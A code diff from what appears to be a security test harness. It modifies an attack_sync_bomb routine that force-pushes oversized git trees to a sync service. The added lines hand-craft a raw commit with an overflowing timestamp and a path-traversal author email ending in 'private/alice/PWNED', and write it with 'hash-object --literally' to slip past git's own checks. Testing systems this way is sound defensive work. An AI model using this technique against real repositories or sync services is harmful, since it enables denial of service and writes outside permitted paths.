@@ -602,8 +602,6 @@ def attack_sync_bomb(a: Attacker) -> None:
     env = dict(os.environ, GIT_CONFIG_GLOBAL=conf)
     _git("clone", "-q", a.params["remote"], work, cwd="/tmp", env=env)
     mib = a.params["bomb_mib"]
-    when = "99999999999999999 +0000"
-    forged = dict(env, GIT_AUTHOR_DATE=when, GIT_COMMITTER_DATE=when)
     a.ready()
     i = 0
     while True:
@@ -621,8 +619,12 @@ def attack_sync_bomb(a: Attacker) -> None:
             lines = "".join(f"100644 blob {zeros}\tbomb{i}-{k}.md\n" for k in range(3))
             lines += "".join(f"100644 blob {small}\tsmall{i}-{k}.md\n" for k in range(200))
             tree = _git("mktree", cwd=work, env=env, data=lines.encode())
+            # written raw: git commit-tree refuses this date
+            who = "alice <m@/../../../private/alice/PWNED> 99999999999999999 +0000"
+            head = f"tree {tree}\n" + (f"parent {parent}\n" if parent else "")
+            raw = f"{head}author {who}\ncommitter {who}\n\nbomb\n".encode()
             commit = _git(
-                "commit-tree", tree, "-m", "bomb", *(["-p", parent] if parent else []), cwd=work, env=forged
+                "hash-object", "-t", "commit", "--literally", "-w", "--stdin", cwd=work, env=env, data=raw
             )
             _git("push", "-q", "-f", "origin", f"{commit}:refs/heads/main", cwd=work, env=env)
             with open(f"{a.mnt}/.memfs/sync", "wb") as f:
